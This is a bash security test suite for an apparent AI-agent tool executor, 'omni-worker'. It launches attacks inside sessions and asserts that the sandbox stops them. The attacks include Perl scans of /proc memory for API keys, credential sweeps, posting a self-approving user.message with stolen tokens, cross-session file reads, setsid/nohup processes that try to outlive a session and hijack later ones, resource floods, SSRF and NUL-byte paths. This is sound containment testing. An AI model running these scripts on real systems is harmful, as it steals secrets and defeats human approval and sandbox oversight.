#!/usr/bin/env bash
# Hostile tool calls against omni-worker (the contained executor): every tool
# call is arbitrary code. Each attack runs against both sandbox modes:
#
#   none   poll --sandbox none  --concurrency 4 + limits
#   bwrap  poll --sandbox bwrap --concurrency 4 + limits
#
# OMNI_ATTACK_OLD=1 runs the same attacks against the worker as it was before
# the executor (no --sandbox, no limits; "bwrap" = the --on-work bwrap.sh
# script): there the assertions marked [attack] are expected to FAIL; that is
# the proof each attack works. Assertions marked [safety] must pass on both.
#
#   1. environment-key theft through /proc (fd/0, environ, cmdline, fd/*, mem)
#   2. another session's files (read a canary, plant a file)
#   3. hijacking a later session through leftovers (processes that escape the
#      session, writing into other sessions' bash command files)
#   4. resource exhaustion: processes, memory, /tmp, workdir
#   5. credentials inside the session (env, /run/omni, files, API sockets)
#   6. self-approval: a user.message posted from inside the session
#   7. SSRF through the work secret's api_base_url (omni-worker run)
#   8. NUL bytes in tool paths
#
# Every process stays on 127.0.0.1; every loop and wait is bounded. The worker
# (and so every session) runs as root, as in CI.
. "$(dirname "$0")/../lib.sh"
. "$TOP/tests/integration/lib-sim.sh"
. "$TOP/tests/integration/worker-lib.sh"
. "$TOP/tests/integration/attack-lib.sh"

OLD=${OMNI_ATTACK_OLD:-0}
MARK=atk$RANDOM$RANDOM$RANDOM
LIMITS=(--limit-pids 64 --limit-memory 256M --limit-tmp 64M --limit-workdir 64M)
COMMON=(--max-idle 1s --poll-idle-ms 50-150)

# The sessions' directories (and the worker's TMPDIR) live outside $T, which is
# mode 0700: a session uid of the new code must be able to reach its workdir.
WROOT=$(mktemp -d /tmp/omni-attack.XXXXXX)
chmod 0755 "$WROOT"
mkdir -m 1777 "$WROOT/tmp"
HOSTFILL=/tmp/omni-attack-fill-$MARK
HOSTMARK=/tmp/omni-attack-host-$MARK
_attack_cleanup() {
    local p
    # processes an attack left behind (all started by this test): by pid
    for p in $(pgrep -f "HJ-$MARK" 2>/dev/null); do kill -KILL "$p" 2>/dev/null; done
    rm -f "$HOSTFILL" "$HOSTMARK"
    rm -rf "$WROOT"
}
trap '_attack_cleanup; _cleanup' EXIT

sim_start
SIM_PORT=${SIM_URL##*:}
ORG=$ANTHROPIC_API_KEY
ENVK=$ANTHROPIC_ENVIRONMENT_KEY
CRED_RE='sk-ant-[a-z]{2,4}[0-9]*-[A-Za-z0-9_-]{16,}'

# Old code's bwrap mode: the bwrap.sh of today's main (the working tree's may
# already speak the new worker's protocol). OMNI_ATTACK_BWRAP_SH overrides.
OLD_BWRAP=${OMNI_ATTACK_BWRAP_SH:-}
if [ "$OLD" = 1 ] && [ -z "$OLD_BWRAP" ]; then
    if git -C "$TOP" show HEAD:worker/spawn/bwrap.sh >"$T/old-bwrap.sh" 2>/dev/null; then
        OLD_BWRAP=$T/old-bwrap.sh
        chmod 0755 "$OLD_BWRAP"
    else
        OLD_BWRAP=$TOP/worker/spawn/bwrap.sh
    fi
fi

BWRAP_WHY=
if ! command -v bwrap >/dev/null; then
    BWRAP_WHY="bwrap is not installed"
elif ! bwrap --unshare-all --ro-bind / / true 2>/dev/null; then
    BWRAP_WHY="bubblewrap cannot create namespaces here"
elif [ "$OLD" = 1 ] && ! command -v socat >/dev/null; then
    BWRAP_WHY="socat is missing (the old bwrap.sh relay needs it)"
fi

# ---- 7. SSRF through the work secret's api_base_url (before any poller runs) ----
# A real item from the queue, claimed by hand (not acknowledged: `run` does it).
start_listener ssrf
mk_session bash-once
SSRF_SID=$SID
API_WORKER=attack-ssrf api env GET "/v1/environments/$ANTHROPIC_ENVIRONMENT_ID/work/poll?block_ms=999"
WID=$(jget "$BODY" id)
SID_W=$(jget "$BODY" data.id)
TOK=$(b64url_json "$(jget "$BODY" secret)" | "$TOP/tests/jget" sessions_token)
is "ssrf: claimed the session's item" "$SID_W" "$SSRF_SID"
SECRET=$(printf '{"version":1,"sessions_token":"%s","api_base_url":"http://127.0.0.1:%s"}' "$TOK" "$L_PORT" |
    base64 -w0 | tr '+/' '-_' | tr -d '=')
(umask 077; printf '%s\n' "$SECRET" >"$T/ssrf.secret")
mkdir -p "$WROOT/ssrf"
env ANTHROPIC_BASE_URL="$SIM_URL" ANTHROPIC_ENVIRONMENT_ID="$ANTHROPIC_ENVIRONMENT_ID" \
    timeout -s TERM 15 "$BIN/omni-worker" run --work-id "$WID" --session-id "$SID_W" \
    --work-secret-file "$T/ssrf.secret" --workdir "$WROOT/ssrf" --max-idle 1s \
    </dev/null >/dev/null 2>"$T/ssrf-worker.log"
SSRF_RC=$?
sleep 0.5
got=$(cat "$T/ssrf.log" 2>/dev/null)
is "[attack] ssrf: nothing reached the secret's api_base_url listener" "$got" ""
unlike "[attack] ssrf: no authorization header sent to the listener" "$(printf '%s' "$got" | tr 'A-Z' 'a-z')" "authorization:"
ok "[attack] ssrf: no sessions token sent to the listener" bash -c "! grep -qF -- '$TOK' '$T/ssrf.log' 2>/dev/null"
like "[attack] ssrf: the worker says it ignored the secret's api_base_url" \
    "$(tr 'A-Z' 'a-z' <"$T/ssrf-worker.log")" "api_base_url"
ok "[safety] ssrf: the run ended by itself (rc $SSRF_RC)" test "$SSRF_RC" != 124

# ---- attack scripts (files; sent into the session in chunks) ------------------
# 1. scan /proc for the worker's processes and read what can be read
cat >"$T/a1.sh" <<EOF
F=\$(mktemp 2>/dev/null || echo ./.scan.\$\$); : >"\$F"
memscan() { perl -e '
  my \$p = shift; open(my \$m, "<", "/proc/\$p/maps") or exit; open(my \$x, "<", "/proc/\$p/mem") or exit;
  while (<\$m>) { next unless /^([0-9a-f]+)-([0-9a-f]+) rw/; my (\$a, \$b) = (hex \$1, hex \$2);
    next if \$b - \$a > (64 << 20); sysseek(\$x, \$a, 0) or next; my \$d = ""; sysread(\$x, \$d, \$b - \$a) or next;
    while (\$d =~ /(sk-ant-[A-Za-z0-9_-]{8,}|"environment_key":"[^"]*")/g) { print "MEM \$p \$1\n" } }' "\$1"; }
end=\$((SECONDS + 9))
while [ \$SECONDS -lt \$end ]; do
  for d in /proc/[0-9]*; do
    p=\${d#/proc/}
    [ "\$p" = \$\$ ] && continue
    c=\$(tr '\0' ' ' 2>/dev/null <"\$d/cmdline") || continue
    case \$c in *omni-worker*|*bwrap.sh*) ;; *) continue ;; esac
    # only this test's worker (its options name $WROOT), or any inside a sandbox
    case \$c in *$WROOT*|*/run/omni*) ;; *) continue ;; esac
    echo "PROC \$p \$c" >>"\$F"
    { timeout 0.3 cat "\$d/fd/0"; tr '\0' '\n' <"\$d/environ"; cat "\$d/cmdline"
      for f in "\$d"/fd/*; do timeout 0.2 head -c 65536 "\$f"; done; } 2>/dev/null |
      grep -aoE 'sk-ant-[A-Za-z0-9_-]+|"environment_key":"[^"]*"|ANTHROPIC_[A-Z_]*KEY=[^ ]*' |
      sed "s/^/FD \$p /" >>"\$F"
    memscan "\$p" >>"\$F" 2>/dev/null
  done
done
echo "omni-worker processes seen: \$(grep '^PROC' "\$F" | sort -u | wc -l)"
grep -v '^PROC' "\$F" | sort -u | head -40
grep '^PROC' "\$F" | sort -u | head -10 | cut -c1-200
rm -f "\$F"
EOF

# 5. credentials anywhere the session can look
cat >"$T/a5.sh" <<'EOF'
echo "== env"; env | sort
echo "== /run"; ls -la /run /run/omni 2>&1 | head -40
echo "== /run/omni files"
for f in /run/omni/*; do
  [ -f "$f" ] || continue
  echo "-- $f"; head -c 2000 "$f"; echo
  s=$(tr -d '\n' <"$f" | tr '_-' '/+'); while [ $(( ${#s} % 4 )) -ne 0 ]; do s="$s="; done
  printf '%s' "$s" | base64 -d 2>/dev/null; echo
done
echo "== key-shaped strings in files"
for d in /tmp /run /var/tmp /home /etc /proc/[0-9]*/environ . /root; do
  timeout 3 grep -rhoas -D skip --line-buffered -E 'sk-ant-[a-z]+[0-9]*-[A-Za-z0-9_-]{16,}' "$d" 2>/dev/null
done | sort -u | head -20
echo "== sockets"
for s in /run/omni/*.sock /run/*.sock $(timeout 3 find /tmp /run -maxdepth 4 -type s -name '*api.sock' 2>/dev/null); do
  [ -S "$s" ] || continue
  echo "SOCK $s $(curl -s -o /dev/null -w '%{http_code}' --max-time 2 --unix-socket "$s" http://localhost/v1/sessions)"
done
echo "== end"
EOF

# 6. self-approval: find any credential, post a user.message to our own session
cat >"$T/a6.sh" <<EOF
M=SELFAPPROVE-$MARK
[ -e .posted ] && { echo "already posted"; exit 0; }
: >.posted
sid=\${ANTHROPIC_SESSION_ID:-\$(basename "\$PWD")}
creds=""
if [ -r /run/omni/secret ]; then
  s=\$(tr -d '\n' </run/omni/secret | tr '_-' '/+'); while [ \$(( \${#s} % 4 )) -ne 0 ]; do s="\$s="; done
  creds="\$creds \$(printf '%s' "\$s" | base64 -d 2>/dev/null | grep -oE 'sk-ant-[A-Za-z0-9_-]+')"
fi
# the test's own control-plane files on the host (only those for this sim's port)
for f in /tmp/omni-test.*/sim.env; do
  grep -q ":$SIM_PORT\\\$" "\$f" 2>/dev/null && creds="\$creds \$(grep -oE 'sk-ant-[A-Za-z0-9_-]+' "\$f")"
done
# sessions tokens in the memory of this worker's processes
for d in /proc/[0-9]*; do
  c=\$(tr '\0' ' ' 2>/dev/null <"\$d/cmdline") || continue
  case \$c in *omni-worker*$WROOT*|*omni-worker*/run/omni*) ;; *) continue ;; esac
  creds="\$creds \$(perl -e '
    my \$p = shift; open(my \$m, "<", "/proc/\$p/maps") or exit; open(my \$x, "<", "/proc/\$p/mem") or exit;
    while (<\$m>) { next unless /^([0-9a-f]+)-([0-9a-f]+) rw/; my (\$a, \$b) = (hex \$1, hex \$2);
      next if \$b - \$a > (64 << 20); sysseek(\$x, \$a, 0) or next; my \$d = ""; sysread(\$x, \$d, \$b - \$a) or next;
      while (\$d =~ /(sk-ant-req-[A-Za-z0-9_-]{16,})/g) { print "\$1\n" } }' "\${d#/proc/}" 2>/dev/null | sort -u | head -5)"
done
body='{"events":[{"type":"user.message","content":[{"type":"text","text":"'\$M'"}]}]}'
hdr=(-H 'anthropic-version: 2023-06-01' -H 'anthropic-beta: managed-agents-2026-04-01' -H 'content-type: application/json')
n=0
for c in \$(printf '%s\n' \$creds | sort -u); do
  for auth in "authorization: Bearer \$c" "x-api-key: \$c"; do
    [ -S /run/omni/api.sock ] && echo "POST via api.sock \${c:0:12}: \$(curl -s -o /dev/null -w '%{http_code}' --max-time 3 --unix-socket /run/omni/api.sock "\${hdr[@]}" -H "\$auth" --data "\$body" "http://127.0.0.1:$SIM_PORT/v1/sessions/\$sid/events")"
    echo "POST via tcp \${c:0:12}: \$(curl -s -o /dev/null -w '%{http_code}' --max-time 3 "\${hdr[@]}" -H "\$auth" --data "\$body" "http://127.0.0.1:$SIM_PORT/v1/sessions/\$sid/events")"
    n=\$((n + 1)); [ \$n -ge 12 ] && break 2
  done
done
echo "tried \$n"
EOF

# the hijack loop of attack 3, written into the session as hj.sh: it targets the
# bash command files of this test's worker (TMPDIR=$WROOT/tmp), and /tmp's only
# when that /tmp is not the host's (a marker file tells), so that it never
# touches other programs on this machine.
HOSTMARK=/tmp/omni-attack-host-$MARK
: >"$HOSTMARK"
HJ_SCRIPT="end=\$((SECONDS + 30))
while [ \$SECONDS -lt \$end ]; do
  for f in $WROOT/tmp/omni-bash-*/cmd /tmp/omni-bash-*/cmd /tmp/*/cmd; do
    case \$f in $WROOT/*) ;; *) [ -e $HOSTMARK ] && continue ;; esac
    [ -f \"\$f\" ] && echo 'echo HIJACKED' >\"\$f\" 2>/dev/null
  done
done"
HJ_WRITE=$(perl -MJSON::PP -e 'print JSON::PP->new->canonical->encode({name => "write", input => {file_path => "hj.sh", content => $ARGV[0]}})' "$HJ_SCRIPT")

wait_all() { # SECS DESC SID...
    local secs=$1 d=$2; shift 2
    local s
    _all_completed() { local x; for x in "$@"; do sess_completed "$x" || return 1; done; }
    wait_for "$secs" "$d" _all_completed "$@"
}

start_worker() { # MODE
    : >"$T/worker.log"
    if [ "$OLD" = 1 ]; then
        if [ "$1" = none ]; then
            TMPDIR=$WROOT/tmp wk_bg poll --concurrency 4 "${COMMON[@]}" \
                --workdir "$WROOT/work" </dev/null >"$T/worker.out"
        else
            TMPDIR=$WROOT/tmp OMNI_WORKER_BIN=$BIN/omni-worker OMNI_BWRAP_ROOT=$T \
                OMNI_WORKER_ARGS="--max-idle 1s" \
                wk_bg poll --concurrency 4 --on-work "$OLD_BWRAP" "${COMMON[@]}" \
                --workdir "$WROOT/work" </dev/null >"$T/worker.out"
        fi
    else
        TMPDIR=$WROOT/tmp wk_bg poll --sandbox "$1" --concurrency 4 "${LIMITS[@]}" "${COMMON[@]}" \
            --workdir "$WROOT/work" </dev/null >"$T/worker.out"
    fi
}

survivors() { pgrep -f "HJ-$MARK" 2>/dev/null | tr '\n' ' '; }

run_mode() {
    local M=$1 A1 A2a A2b A5 A6 A8 F1 F2 F3 S n i
    echo "# ---- mode $M ($([ "$OLD" = 1 ] && echo old code || echo new code)) ----"
    start_worker "$M"
    sleep 0.5
    ok "[safety] $M: worker started" kill -0 "$WK_PID"

    # ---- 1. environment key through /proc -------------------------------------
    local n1
    n1=$(script_calls "$T/a1.sh" | wc -l)
    script_session "$T/a1.sh" \
        "echo PIDS=\$(ls /proc | grep -c '^[0-9][0-9]*\$'); echo WORKERS=\$(grep -l 'omni-[w]orker' /proc/[0-9]*/cmdline 2>/dev/null | wc -l); grep -l 'omni-[w]orker' /proc/[0-9]*/cmdline 2>/dev/null | head -5"
    A1=$SID
    until_ok 20 has_results "$A1" "$((n1 - 1))"
    # new session children start while the scan runs
    local fill=()
    for i in 1 2 3; do sleep 0.8; mk_session bash-once; fill+=("$SID"); done
    wait_all 60 "$M: attack 1 and 3 filler sessions done" "$A1" "${fill[@]}"
    local r1 r1b
    r1=$(result "$A1" "$n1")
    r1b=$(result "$A1" "$((n1 + 1))")
    [ -n "${ATTACK_VERBOSE:-}" ] && printf '%s\n' "$r1" "$r1b" | sed 's/^/#   a1: /' >&2
    like "[safety] $M: the /proc scan ran" "$r1" "omni-worker processes seen"
    ok "[attack] $M: /proc scan: no environment key" bash -c "! printf '%s' \"\$1\" | grep -qF -- '$ENVK'" _ "$r1"
    unlike "[attack] $M: /proc scan: no sk-ant- token" "$r1" "sk-ant-"
    unlike "[attack] $M: /proc scan: no \"environment_key\"" "$r1" '"environment_key"'
    local pids workers
    pids=$(printf '%s\n' "$r1b" | sed -n 's/^PIDS=//p')
    workers=$(printf '%s\n' "$r1b" | sed -n 's/^WORKERS=//p')
    ok "[attack] $M: /proc lists fewer than 20 processes (${pids:-?})" test "${pids:-999}" -lt 20
    is "[attack] $M: no worker process visible from the session" "${workers:-?}" 0

    # ---- 2. another session's files, 5. credentials, 6. self-approval ----------
    local canary=CANARY-$MARK-$M-$RANDOM
    cmd_session "echo $canary >canary.txt; echo wrote" "sleep 8; echo a-done"
    A2a=$SID
    script_session "$T/a5.sh"
    A5=$SID
    local n5=$(script_calls "$T/a5.sh" | wc -l)
    script_session "$T/a6.sh"
    A6=$SID
    local n6=$(script_calls "$T/a6.sh" | wc -l)
    wait_for 20 "[safety] $M: session A wrote its canary" has_results "$A2a" 1
    cmd_session \
        "cat ../*/canary.txt; ls -la .. | head -20; for d in ../*/; do [ -f \"\$d/canary.txt\" ] && echo planted >\"\$d/planted.txt\"; done; echo b1" \
        "w=\$(dirname \"\$PWD\"); echo root=\$w; cat \"\$w\"/*/canary.txt 2>&1 | head; for c in /proc/[0-9]*/cwd; do [ -f \"\$c/canary.txt\" ] && { echo \"via \$c\"; cat \"\$c/canary.txt\"; echo planted >\"\$c/planted.txt\"; }; done 2>/dev/null; echo b2" \
        "timeout 5 find / -xdev -name canary.txt 2>/dev/null | head -5 | while read -r f; do cat \"\$f\"; echo planted >\"\${f%/*}/planted.txt\"; done; echo b3"
    A2b=$SID
    wait_for 30 "[safety] $M: session B ran its three calls" has_results "$A2b" 3
    local rb
    rb=$(results "$A2b")
    unlike "[attack] $M: session B did not read session A's canary" "$rb" "$canary"
    local planted
    planted=$(find "$WROOT" "$T" -name planted.txt 2>/dev/null | head -5)
    is "[attack] $M: nothing planted in session A's directory" "$planted" ""
    wait_all 40 "$M: sessions of attacks 2, 5, 6 done" "$A2a" "$A2b" "$A5" "$A6"
    like "[safety] $M: session A was served" "$(result "$A2a" 2)" "a-done"

    local r5
    r5=$(result "$A5" "$n5")
    [ -n "${ATTACK_VERBOSE:-}" ] && printf '%s\n' "$r5" | sed 's/^/#   a5: /' >&2
    like "[safety] $M: the credential search ran" "$r5" "== end"
    ok "[attack] $M: credentials: no environment key" bash -c "! printf '%s' \"\$1\" | grep -qF -- '$ENVK'" _ "$r5"
    ok "[attack] $M: credentials: no organisation key" bash -c "! printf '%s' \"\$1\" | grep -qF -- '$ORG'" _ "$r5"
    unlike "[attack] $M: credentials: no key-shaped value" "$r5" "$CRED_RE"
    unlike "[attack] $M: credentials: no sessions token (secret)" "$r5" '"sessions_token"'
    unlike "[attack] $M: credentials: no API socket answers" "$r5" '^SOCK .* [1-9][0-9][0-9]$'
    unlike "[attack] $M: credentials: no /run/omni/api.sock" "$r5" "api\.sock"

    local r6
    r6=$(result "$A6" "$n6")
    [ -n "${ATTACK_VERBOSE:-}" ] && printf '%s\n' "$r6" | sed 's/^/#   a6: /' >&2
    like "[safety] $M: the self-approval script ran" "$r6" "tried [0-9]+|already posted"
    unlike "[attack] $M: no user.message posted from inside the session" \
        "$(user_messages "$A6")" "SELFAPPROVE-$MARK"
    unlike "[attack] $M: no post from inside was accepted" "$r6" ": 200$"

    # ---- 4. resources: processes, memory, /tmp --------------------------------
    cmd_session "perl -e '\$n = 0; my @k; for (1 .. 300) { my \$p = fork; last unless defined \$p; if (!\$p) { sleep 12; exit 0 } push @k, \$p; \$n++ } print \"forked=\$n\\n\"; sleep 5; kill 9, @k; print \"flood over\\n\"' 2>&1 | tail -3"
    F1=$SID
    sleep 1.5
    cmd_session "echo alive-$MARK"
    local B4=$SID
    cmd_session "perl -e '\$x = \"x\" x (600 << 20); print \"allocated \", length(\$x), \"\\n\"' 2>&1; echo rc=\$?"
    F2=$SID
    cmd_session "dd if=/dev/zero of=$HOSTFILL bs=1M count=200 2>&1 | grep -E 'No space|copied'; ls -la $HOSTFILL 2>&1"
    F3=$SID
    wait_all 60 "$M: sessions of attack 4 (processes, memory, /tmp) done" "$F1" "$B4" "$F2" "$F3"
    local rf1
    rf1=$(result "$F1" 1)
    local forked
    forked=$(printf '%s\n' "$rf1" | sed -n 's/^forked=//p')
    ok "[attack] $M: process flood held to the pids limit (forked ${forked:-?} of 300)" test "${forked:-999}" -le 64
    is "[safety] $M: another session answered during the flood" "$(result "$B4" 1)" "alive-$MARK"
    ok "[safety] $M: worker alive after the flood" kill -0 "$WK_PID"
    like "[attack] $M: 600 MB allocation stopped by the memory limit" "$(result "$F2" 1 | tr 'A-Z' 'a-z')" "memory limit"
    local rf3
    rf3=$(result "$F3" 1)
    like "[attack] $M: /tmp fill stopped (No space left)" "$rf3" "No space left"
    ok "[attack] $M: the host's /tmp did not get the file" test ! -e "$HOSTFILL"
    rm -f "$HOSTFILL"

    # ---- 4d. workdir fill, 8. NUL in paths, and a session after the flood ------
    cmd_session "dd if=/dev/zero of=./fill bs=1M count=200 2>&1 | grep -E 'No space|copied'; sleep 2; rm -f fill"
    local W1=$SID
    cmd_session "sleep 1" \
        "{\"name\":\"write\",\"input\":{\"file_path\":\"w.txt\",\"content\":\"write-ok-$MARK\"}}" \
        "cat w.txt"
    local W2=$SID
    # (input_raw: the sim sends the JSON text as it is, \u0000 included)
    local nulw='{"name":"write","input_raw":"{\"file_path\":\"inside.txt\\u0000../../outside/canary.txt\",\"content\":\"payload-MARK\"}"}'
    local nulr='{"name":"read","input_raw":"{\"file_path\":\"inside.txt\\u0000../../outside/canary.txt\"}"}'
    cmd_session "${nulw//MARK/$MARK}" "$nulr" \
        "ls -la; test -e inside.txt && echo inside-present || echo inside-absent"
    A8=$SID
    mk_session bash-once
    local AFTER=$SID
    wait_all 40 "$M: sessions of attacks 4d, 8 and one after the flood done" "$W1" "$W2" "$A8" "$AFTER"
    like "[attack] $M: workdir fill stopped (No space left)" "$(result "$W1" 1)" "No space left"
    is "[safety] $M: another session's write succeeded" "$(result_err "$W2" 2)" false
    is "[safety] $M: and its file reads back" "$(result "$W2" 3)" "write-ok-$MARK"
    like "[safety] $M: a session created after the flood was served" "$(result "$AFTER" 1)" "hello from omni-sim"
    is "[attack] $M: write with a NUL in file_path is an error" "$(result_err "$A8" 1)" true
    like "[attack] $M: and the error names the NUL" "$(result "$A8" 1 | tr 'a-z' 'A-Z')" '(^|[^A-Z])NUL([^A-Z]|$)'
    is "[attack] $M: read with a NUL in file_path is an error" "$(result_err "$A8" 2)" true
    like "[attack] $M: and the error names the NUL" "$(result "$A8" 2 | tr 'a-z' 'A-Z')" '(^|[^A-Z])NUL([^A-Z]|$)'
    like "[attack] $M: the write did not act on the part before the NUL" "$(result "$A8" 3)" "inside-absent"

    # ---- 3. hijack through leftovers ------------------------------------------
    cmd_session "$HJ_WRITE" \
        "env -u OMNI_TOOLSET_TAG setsid -f timeout 35 bash \"\$PWD/hj.sh\" HJ-$MARK-setsid </dev/null >/dev/null 2>&1; echo started" \
        "env -u OMNI_TOOLSET_TAG nohup timeout 35 bash \"\$PWD/hj.sh\" HJ-$MARK-nohup </dev/null >/dev/null 2>&1 & echo started" \
        "( ( env -u OMNI_TOOLSET_TAG timeout 35 bash \"\$PWD/hj.sh\" HJ-$MARK-fork </dev/null >/dev/null 2>&1 & ) & ); echo started" \
        "setsid -f timeout 35 bash \"\$PWD/hj.sh\" HJ-$MARK-tagged </dev/null >/dev/null 2>&1; nohup bash \"\$PWD/hj.sh\" HJ-$MARK-nohup2 >/dev/null 2>&1 & echo started"
    local H1=$SID
    wait_for 30 "$M: hijacking session ended and its item stopped" sess_stopped "$H1"
    sleep 0.5
    local surv
    surv=$(survivors)
    is "[attack] $M: no process of the ended session survives" "$surv" ""
    local calls=()
    for i in $(seq 1 10); do calls+=("echo fine-$i"); done
    cmd_session "${calls[@]}"
    local H2=$SID
    wait_all 40 "$M: the next session ran its ten calls" "$H2"
    local rh
    rh=$(results "$H2")
    unlike "[attack] $M: the next session was not hijacked" "$rh" "HIJACKED"
    is "[attack] $M: the next session's results are its own" \
        "$(printf '%s\n' "$rh" | grep -c '^fine-[0-9]*$')" 10

    # ---- the worker's SIGTERM ---------------------------------------------------
    kill -TERM "$WK_PID"
    wk_wait 30
    is "[safety] $M: worker exit 0 after SIGTERM" "$WK_RC" 0
    sleep 0.5
    is "[attack] $M: no session process survives the worker" "$(survivors)" ""
    for S in $(pgrep -f "HJ-$MARK"); do kill -KILL "$S" 2>/dev/null; done
    unlike "[safety] $M: no crash in the worker log" "$(cat "$T/worker.log")" "crashed"
    cp "$T/worker.log" "$T/worker.$M.log"
}

run_mode none
if [ -n "$BWRAP_WHY" ]; then
    _tap_n=$((_tap_n + 1))
    echo "ok $_tap_n # skip bwrap mode: $BWRAP_WHY"
else
    run_mode bwrap
fi
done_testing
